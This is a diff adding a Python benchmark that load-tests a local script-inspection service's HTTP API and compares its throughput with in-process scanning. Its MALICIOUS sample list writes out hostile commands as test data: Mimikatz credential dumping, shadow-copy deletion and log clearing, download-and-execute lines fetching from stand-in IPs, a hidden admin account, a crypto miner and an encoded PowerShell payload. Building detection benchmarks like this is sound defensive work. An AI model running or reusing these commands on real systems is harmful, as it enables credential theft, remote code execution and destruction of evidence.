@@ -1,0 +1,206 @@
+"""HTTP throughput and latency of inline-script inspections, next to the in-process scan rate.
+
+    .venv/bin/python benchmarks/http_load.py [--url URL --key KEY] [--levels 1,4,16,64] [--seconds 5]
+
+Without --url it starts `inspector serve` in a separate process (closed network, a temporary
+data folder, its own admin key) and stops it at the end. For each concurrency level it sends
+`POST /v1/inspections` with a mix of benign and malicious inline scripts for a bounded time
+and prints requests/s and p50/p95/p99 latency. It then runs the same samples through
+`Inspector.inspect` in this process (same worker count, no HTTP, no store) and prints the
+ratio: HTTP throughput as a share of the in-process rate is the cost of the service layer.
+Everything stays on 127.0.0.1.
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import json
+import os
+import subprocess
+import sys
+import tempfile
+import time
+import urllib.request
+from dataclasses import dataclass
+from pathlib import Path
+
+import aiohttp
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+from inspector.config import load_settings  # noqa: E402
+from inspector.extensions.request import InputKind, InspectionInput  # noqa: E402
+from inspector.pipeline import Inspector  # noqa: E402
+
+BENIGN = [
+    "Get-Service | Where-Object Status -eq Running | Select-Object -First 10",
+    "Install-WindowsFeature -Name Web-Server -IncludeManagementTools",
+    "New-Item -ItemType Directory -Path C:\\inetpub\\site -Force | Out-Null\nSet-Location C:\\inetpub\\site",
+    "apt-get update && apt-get install -y nginx\nsystemctl enable --now nginx",
+    "#!/bin/sh\nmkdir -p /opt/app && cp /tmp/app.tar.gz /opt/app/ && tar -xzf /opt/app/app.tar.gz -C /opt/app",
+    "powershell -ExecutionPolicy Unrestricted -File configure-iis.ps1 -SiteName contoso",
+    "@echo off\nset LOG=C:\\logs\\setup.txt\nmsiexec /i C:\\temp\\agent.msi /qn /l*v %LOG%",
+    "$cfg = Get-Content C:\\app\\settings.json | ConvertFrom-Json\nWrite-Output $cfg.version",
+]
+MALICIOUS = [
+    "Invoke-Mimikatz -DumpCreds",
+    "cmd /c vssadmin delete shadows /all /quiet & wevtutil cl Security",
+    "$wc = New-Object Net.WebClient; IEX $wc.DownloadString('http://198.51.100.7/a.ps1')",
+    "curl -s http://203.0.113.9/x.sh | bash",
+    "net user svc01 P@ss /add\nnet localgroup administrators svc01 /add",
+    "./xmrig -o stratum+tcp://pool.example:3333 -u 4AbCdEf --donate-level 1",
+    "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+    "netsh interface portproxy add v4tov4 listenport=8080 connectaddress=169.254.169.254 connectport=80",
+]
+SAMPLES = [s for pair in zip(BENIGN, MALICIOUS, strict=True) for s in pair]
+
+
+@dataclass
+class LevelResult:
+    concurrency: int
+    requests: int
+    errors: int
+    seconds: float
+    latencies_ms: list[float]
+
+    @property
+    def rate(self) -> float:
+        return self.requests / self.seconds if self.seconds else 0.0
+
+    def percentile(self, p: float) -> float:
+        if not self.latencies_ms:
+            return float("nan")
+        ordered = sorted(self.latencies_ms)
+        return ordered[min(len(ordered) - 1, int(round(p / 100 * (len(ordered) - 1))))]
+
+
+async def drive_http(url: str, key: str, concurrency: int, seconds: float) -> LevelResult:
+    """`concurrency` clients in a closed loop for `seconds`; each sends the next sample."""
+    headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
+    bodies = [json.dumps({"kind": "script", "content": s}).encode() for s in SAMPLES]
+    latencies: list[float] = []
+    errors = 0
+    stop_at = time.perf_counter() + seconds
+    connector = aiohttp.TCPConnector(limit=concurrency)
+    async with aiohttp.ClientSession(connector=connector, headers=headers) as session:
+
+        async def client(offset: int) -> None:
+            nonlocal errors
+            i = offset
+            while time.perf_counter() < stop_at:
+                started = time.perf_counter()
+                async with session.post(url + "/v1/inspections", data=bodies[i % len(bodies)]) as resp:
+                    await resp.read()
+                    if resp.status == 200:
+                        latencies.append((time.perf_counter() - started) * 1000)
+                    else:
+                        errors += 1
+                i += 1
+
+        started = time.perf_counter()
+        await asyncio.gather(*(client(n) for n in range(concurrency)))
+        elapsed = time.perf_counter() - started
+    return LevelResult(concurrency, len(latencies), errors, elapsed, latencies)
+
+
+async def drive_in_process(workers: int, concurrency: int, seconds: float) -> LevelResult:
+    """The same samples through Inspector.inspect directly: the rate without HTTP and storage."""
+    settings = load_settings(fetch=False)
+    inspector = await Inspector.start(settings, workers=workers, fetching=False)
+    inputs = [InspectionInput(kind=InputKind.SCRIPT, content=s.encode()) for s in SAMPLES]
+    latencies: list[float] = []
+    try:
+        await inspector.inspect(inputs[0])  # warm the worker pool
+        stop_at = time.perf_counter() + seconds
+
+        async def client(offset: int) -> None:
+            i = offset
+            while time.perf_counter() < stop_at:
+                started = time.perf_counter()
+                await inspector.inspect(inputs[i % len(inputs)])
+                latencies.append((time.perf_counter() - started) * 1000)
+                i += 1
+
+        started = time.perf_counter()
+        await asyncio.gather(*(client(n) for n in range(concurrency)))
+        elapsed = time.perf_counter() - started
+    finally:
+        await inspector.close()
+    return LevelResult(concurrency, len(latencies), 0, elapsed, latencies)
+
+
+def start_server(workers: int) -> tuple[subprocess.Popen[bytes], str, str, Path]:
+    data_dir = Path(tempfile.mkdtemp(prefix="http-load-"))
+    env = {k: v for k, v in os.environ.items() if not k.startswith("INSPECTOR_")}
+    env.update(INSPECTOR_DATA_DIR=str(data_dir), INSPECTOR_FETCH="false", INSPECTOR_FETCH_ONLY_ALLOWED="true",
+               INSPECTOR_API_WORKERS=str(workers), INSPECTOR_API_RATE_PER_S="0", INSPECTOR_API_QUEUE_SIZE="1024",
+               INSPECTOR_LOG_LEVEL="warning")
+    inspector_bin = str(Path(sys.executable).parent / "inspector")
+    key = subprocess.run([inspector_bin, "keys", "create", "--role", "detector"], env=env, capture_output=True,
+                         text=True, check=True, timeout=60).stdout.strip()
+    import socket
+
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        port = sock.getsockname()[1]
+    log = (data_dir / "serve.log").open("wb")
+    process = subprocess.Popen([inspector_bin, "serve", "--host", "127.0.0.1", "--port", str(port)], env=env,
+                               stdout=log, stderr=subprocess.STDOUT)
+    url = f"http://127.0.0.1:{port}"
+    deadline = time.monotonic() + 60
+    while True:
+        try:
+            urllib.request.urlopen(url + "/healthz", timeout=1).close()
+            return process, url, key, data_dir
+        except OSError:
+            if process.poll() is not None or time.monotonic() > deadline:
+                raise SystemExit(f"server did not start; see {data_dir / 'serve.log'}") from None
+            time.sleep(0.2)
+
+
+def report(label: str, result: LevelResult) -> None:
+    print(f"{label:<12} c={result.concurrency:<4} {result.rate:8.1f} req/s  p50 {result.percentile(50):7.1f} ms  "
+          f"p95 {result.percentile(95):7.1f} ms  p99 {result.percentile(99):7.1f} ms  "
+          f"n={result.requests} errors={result.errors}")
+
+
+async def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--url", help="a running service (default: start one)")
+    parser.add_argument("--key", help="an API key for --url")
+    parser.add_argument("--levels", default="1,4,16,64", help="concurrency levels, comma separated")
+    parser.add_argument("--seconds", type=float, default=5.0, help="duration of each level (max 60)")
+    parser.add_argument("--workers", type=int, default=os.cpu_count() or 1, help="scan worker processes")
+    args = parser.parse_args()
+    seconds = min(max(args.seconds, 0.5), 60.0)
+    levels = [max(1, min(int(x), 1024)) for x in args.levels.split(",")]
+    process = None
+    if args.url:
+        if not args.key:
+            raise SystemExit("--url needs --key")
+        url, key = args.url.rstrip("/"), args.key
+    else:
+        process, url, key, data_dir = start_server(args.workers)
+        print(f"server: {url} (pid {process.pid}, {args.workers} workers, data {data_dir})")
+    try:
+        await drive_http(url, key, 4, 1.0)  # warm-up, not reported
+        results = [await drive_http(url, key, level, seconds) for level in levels]
+    finally:
+        if process is not None:
+            process.terminate()
+            process.wait(timeout=30)
+    for result in results:
+        report("http", result)
+    best = max(results, key=lambda r: r.rate)
+    local = await drive_in_process(args.workers, best.concurrency, seconds)
+    report("in-process", local)
+    ratio = best.rate / local.rate if local.rate else float("nan")
+    print(f"samples: {len(BENIGN)} benign + {len(MALICIOUS)} malicious inline scripts; {args.workers} workers; "
+          f"{seconds:g} s per level")
+    print(f"HTTP / in-process at c={best.concurrency}: {ratio:.0%} (target >= 70%); "
+          f"p99 at that level {best.percentile(99):.1f} ms (target < 100 ms)")
+
+
+if __name__ == "__main__":
+    asyncio.run(main())
